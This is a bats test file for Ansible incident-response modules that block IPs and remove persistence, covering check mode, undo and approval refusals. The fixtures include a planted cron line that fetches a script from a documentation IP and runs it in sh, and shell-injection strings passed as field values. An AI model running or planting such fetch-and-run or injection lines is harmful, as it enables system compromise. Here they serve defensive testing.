#!/usr/bin/env bats
# The modules for Ansible, against the programs, in namespaces and scratch roots.

bats_require_minimum_version 1.5.0

load apart

modules() {
	command -v ansible >/dev/null || skip "no ansible here"
	cat >>lib.sh <<-'EOS'
		export ANSIBLE_COLLECTIONS_PATH=$TESTS/../share/ansible ANSIBLE_HOME=$PWD/ah
		export ANSIBLE_LOCAL_TEMP=$PWD/at ANSIBLE_NOCOLOR=1
		# task MODULE ARGS [OPTION...]: its result, and the status
		task() {
			m=$1 args=$2
			shift 2
			rc=0
			jq -cn --argjson a "$args" --arg bin "$BIN/$m" --arg st "$PWD/st" \
				'{executable: $bin, state: $st} + $a' >args.json
			ansible localhost -i localhost, -c local -t tree -m "irutils.response.$m" -a "$(cat args.json)" \
				-e "ansible_remote_tmp=$PWD/rt" -e ansible_python_interpreter=/usr/bin/python3 "$@" >said 2>errors || rc=$?
			cat tree/localhost
			return $rc
		}
	EOS
}

@test "check mode plans, a run changes, a second one does not, undo restores" {
	modules
	apart <<-'E'
		ruleset >before
		a='{"block":["203.0.113.7"],"ttl":"1h","reason":"drill","actor":"Ann"}'
		task ircontain "$a" --check --diff >out
		same "$(jq .changed out)" true
		same "$(jq -r '.actions[0].status' out)" planned
		grep -q '^+.*203.0.113.7' said
		ruleset | cmp - before
		[ ! -e st ]
		task ircontain "$a" >out
		same "$(jq -r '[.changed, .actions[0].status, .actions[0].verify] | join(" ")' out)" 'true applied ok'
		same "$(blocked 203.0.113.7)" 1
		grep -q '"by":"Ann, ' st/ledger
		task ircontain "$a" >out
		same "$(jq -r '[.changed, .actions[0].status] | join(" ")' out)" 'false already'
		task ircontain "$a" --check >out
		same "$(jq .changed out)" false
		task ircontain '{"unblock":["203.0.113.7"],"reason":"over"}' >out
		same "$(jq .changed out)" true
		ruleset | cmp - before
	E
}

@test "plans go in as text or as mappings; a refusal fails the task with its reason" {
	modules
	apart <<-'E'
		step 203.0.113.7 >s
		task ircontain "$(jq -c '{records: [.]}' s)" >out
		same "$(jq -r '.actions[0].status' out)" applied
		task ircontain "$(jq -c --rawfile t s '{records: [$t]}' s)" >out
		same "$(jq -r '.actions[0].status' out)" already
		step 127.0.0.1 >s
		wants 2 task ircontain "$(jq -c '{records: [.]}' s)" >out
		jq -r .msg out | grep -q 'block-ip {"ip": "127.0.0.1"}: .*loopback'
		step 203.0.113.8 ',"approval":"two"' | jq -c '.approval = "two"' >s
		wants 2 task ircontain "$(jq -c '{records: [.]}' s)" >out
		jq -r .msg out | grep -q 'persons agreed'
		wants 0 task ircontain "$(jq -c '{records: [.], waiting: "accept"}' s)" >out
		same "$(jq -r '[.changed, .exit_status] | join(" ")' out)" 'false 75'
		wants 2 task ircontain '{"block":["203.0.113.9"]}' >out
		jq -r .msg out | grep -q -- '--reason'
	E
}

@test "irremedy takes persistence away from an image once" {
	modules
	apart <<-'E'
		mkdir -p root/etc/cron.d root/var/lib/dpkg/info
		echo '* * * * * root curl -s 203.0.113.7/x | sh' >root/etc/cron.d/update
		cp -a root before
		jq -nc --arg r "$PWD/root" '{root: $r, reason: "clean", records: [{do: "remove-persistence",
			target: {kind: "cron", path: "/etc/cron.d/update"}, approval: "none", risk: "low"}]}' >a
		task irremedy "$(cat a)" --check --diff >out
		same "$(jq .changed out)" true
		[ -e root/etc/cron.d/update ]
		grep -q '^--- a.etc.cron.d.update\|^-\* \* \*' said
		task irremedy "$(cat a)" >out
		same "$(jq -r '[.changed, .actions[0].status] | join(" ")' out)" 'true applied'
		[ ! -e root/etc/cron.d/update ]
		id=$(jq -r '.actions[0].id' out)
		task irremedy "$(cat a)" >out
		same "$(jq .changed out)" false
		task irremedy "$(jq -nc --arg r "$PWD/root" --arg i "$id" '{root: $r, undo: [$i], reason: "ours"}')" >out
		same "$(jq -r '.actions[0].status' out)" undone
		diff -r before root
	E
}

@test "words that a shell would read are words" {
	modules
	apart <<-'E'
		wants 2 task ircontain '{"block":["203.0.113.7; touch owned"],"reason":"$(touch owned)"}' >out
		wants 0 task ircontain '{"block":["203.0.113.7"],"reason":"--apply; `touch owned` $(touch owned)"}' >out
		[ ! -e owned ]
		grep -q 'touch owned' st/ledger
	E
}

@test "the documentation of the modules is what they take" {
	modules
	apart <<-'E'
		for m in ircontain irremedy; do
			ansible-doc -j "irutils.response.$m" >doc
			jq -r '.[].doc.options | keys[]' doc | sort >said
			(cd "$ANSIBLE_COLLECTIONS_PATH" && PYTHONDONTWRITEBYTECODE=1 /usr/bin/python3 -c "
		import sys, types
		sys.path.insert(0, '.')
		import ansible.module_utils.basic as b
		class M(b.AnsibleModule):
		    def __init__(self, argument_spec, **k): print('\n'.join(argument_spec)); sys.exit(0)
		b.AnsibleModule = M
		from ansible_collections.irutils.response.plugins.modules import $m
		$m.main()") | sort | cmp - said
		done
	E
}
